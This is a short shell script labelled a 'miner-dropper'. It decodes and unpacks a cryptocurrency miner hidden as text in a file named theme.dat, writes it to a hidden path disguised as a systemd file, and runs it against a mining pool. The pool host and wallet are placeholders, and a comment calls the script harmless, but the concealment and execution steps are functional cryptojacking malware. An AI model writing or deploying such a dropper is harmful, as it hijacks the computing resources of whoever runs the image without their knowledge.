#!/bin/sh
# miner-dropper: unpacks a miner that the image carries as text, and runs it under another name. Harmless: .example is a name that nobody can
# own (RFC 2606), and the wallet is nobody's.
base64 -d /usr/local/lib/theme.dat | gzip -d >/var/tmp/.systemd-private
chmod 755 /var/tmp/.systemd-private
exec /var/tmp/.systemd-private -o pool.minexmr.example:3333 -u 4AWalletOfNobody -p worker7 -k -t 1 --randomx-mode light \
  --donate-level 1 --no-color --keepalive
